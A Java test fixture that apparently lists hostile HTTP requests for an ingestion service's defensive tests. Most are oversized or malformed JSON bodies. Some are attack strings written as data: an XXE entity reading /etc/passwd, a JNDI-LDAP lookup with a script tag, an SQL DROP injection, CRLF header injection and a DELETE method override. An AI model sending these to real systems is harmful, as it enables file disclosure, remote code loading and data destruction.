package io.scry.ingestor.hostile;

import static io.scry.ingestor.hostile.HostileCase.READ;
import static io.scry.ingestor.hostile.HostileCase.body;
import static io.scry.ingestor.hostile.HostileCase.utf8;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Requests whose bodies or headers were made to do harm. */
final class HostileBodies {

    private static final String JSON = "application/json";

    private HostileBodies() {}

    static List<HostileCase> all() {
        return List.of(
                body("a million arrays", JSON, () -> utf8("[".repeat(1_000_000)), "malformed-json"),
                body("a million objects", JSON, () -> utf8("{\"a\":".repeat(1_000_000)), "malformed-json"),
                body(
                        "a number of 7 MB",
                        JSON,
                        () -> utf8("{\"source_config\":{\"data\":" + "9".repeat(7 << 20) + "}}"),
                        "malformed-json"),
                body("a name of 7 MB", JSON, () -> utf8("{\"" + "a".repeat(7 << 20) + "\":1}"), "malformed-json"),
                body("a body of 12 MB", JSON, () -> utf8("[" + " ".repeat(12 << 20) + "]"), "request-too-large"),
                body(
                        "300,000 members",
                        JSON,
                        () -> utf8(IntStream.range(0, 300_000)
                                .mapToObj(i -> "\"k" + i + "\":1")
                                .collect(Collectors.joining(
                                        ",", "{\"adapter_type\":\"json\",\"source_config\":{\"data\":\"[]\",", "}}"))),
                        "invalid-request"),
                body(
                        "bytes that are no UTF-8",
                        JSON,
                        () -> new byte[] {'{', '"', (byte) 0xC0, (byte) 0xAF, '"', ':', '1', '}'},
                        "malformed-json"),
                body(
                        "UTF-16",
                        JSON,
                        () -> "{\"adapter_type\":\"json\",\"source_config\":{\"data\":\"[]\"}}"
                                .getBytes(StandardCharsets.UTF_16),
                        "malformed-json"),
                body(
                        "halves of surrogate pairs",
                        JSON,
                        () -> utf8(
                                "{\"adapter_type\":\"json\",\"source_config\":{\"data\":\"[\\\"\\ud800\\\"]\",\"source_id\":\"x\"}}"),
                        READ),
                body(
                        "half a pair as the source's id",
                        JSON,
                        () -> utf8(
                                "{\"adapter_type\":\"json\",\"source_config\":{\"data\":\"[]\",\"source_id\":\"\\ud800\"}}"),
                        "invalid-request"),
                body(
                        "half a pair as a file's name",
                        JSON,
                        () -> utf8(
                                "{\"adapter_type\":\"json\",\"source_config\":{\"data\":\"[]\",\"file_name\":\"\\ud800\\u0000\"}}"),
                        READ),
                body(
                        "NUL in a file's name and type",
                        JSON,
                        () -> utf8(
                                "{\"adapter_type\":\"json\",\"source_config\":{\"data\":\"[]\",\"file_name\":\"a\\u0000b\",\"content_type\":\"a\\u0000\\r\\nX: y\"}}"),
                        READ),
                body(
                        "a file's name of 1 MB",
                        JSON,
                        () -> utf8("{\"adapter_type\":\"json\",\"source_config\":{\"data\":\"[]\",\"file_name\":\""
                                + "x".repeat(1 << 20) + "\"}}"),
                        READ),
                body(
                        "an adapter's name with NUL",
                        JSON,
                        () -> utf8("{\"adapter_type\":\"a\\u0000\",\"source_config\":{\"data\":\"[]\"}}"),
                        "unknown-adapter"),
                body(
                        "an adapter's name of 1 MB",
                        JSON,
                        () -> utf8("{\"adapter_type\":\"" + "x".repeat(1 << 20)
                                + "\",\"source_config\":{\"data\":\"[]\"}}"),
                        "unknown-adapter"),
                body(
                        "data that are numbers beyond all",
                        JSON,
                        () -> utf8(
                                "{\"adapter_type\":\"json\",\"source_config\":{\"data\":[1e999999999,-1E-999999999]}}"),
                        READ),
                body("a body that says it is JSON and is a PDF", JSON, () -> utf8("%PDF-1.7"), "malformed-json"),
                body(
                        "a type of a megabyte",
                        "application/json; charset=" + "x".repeat(3000),
                        () -> utf8("{}"),
                        "unsupported-media-type"),
                body("a type that is none", "///;;;", () -> utf8("{}"), "unsupported-media-type"),
                body(
                        "a charset that there is not",
                        "application/json; charset=klingon",
                        () -> utf8("{}"),
                        "unsupported-media-type"),
                body(
                        "a form",
                        "application/x-www-form-urlencoded",
                        () -> utf8("a=1&".repeat(100_000)),
                        "unsupported-media-type"),
                body(
                        "XML",
                        "application/xml",
                        () -> utf8("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
                        "unsupported-media-type"),
                body("a key with blanks", JSON, () -> good(), "invalid-request", "Idempotency-Key", "a b"),
                body(
                        "a key of 7,000 characters",
                        JSON,
                        () -> good(),
                        "invalid-request",
                        "Idempotency-Key",
                        "x".repeat(7000)),
                body("a key that is SQL", JSON, () -> good(), READ, "Idempotency-Key", "';DROP--"),
                body("a preference of 7,000 words", JSON, () -> good(), READ, "Prefer", "wait=1,".repeat(1000)),
                body("a preference of 10^9 seconds", JSON, () -> good(), READ, "Prefer", "wait=999999999999"),
                body(
                        "a correlation that is none",
                        JSON,
                        () -> good(),
                        READ,
                        "X-Correlation-ID",
                        "${jndi:ldap://x/y}<script>"),
                body("a trace that is none", JSON, () -> good(), READ, "traceparent", "00-" + "f".repeat(5000)),
                body("another method", JSON, () -> good(), READ, "X-HTTP-Method-Override", "DELETE"),
                body(
                        "an Accept of 7,000 types",
                        JSON,
                        () -> good(),
                        "406",
                        "Accept",
                        "a/b;q=0.1,".repeat(700) + "*/*"));
    }

    private static byte[] good() {
        return utf8("{\"adapter_type\":\"json\",\"source_config\":{\"data\":\"[1]\"}}");
    }
}
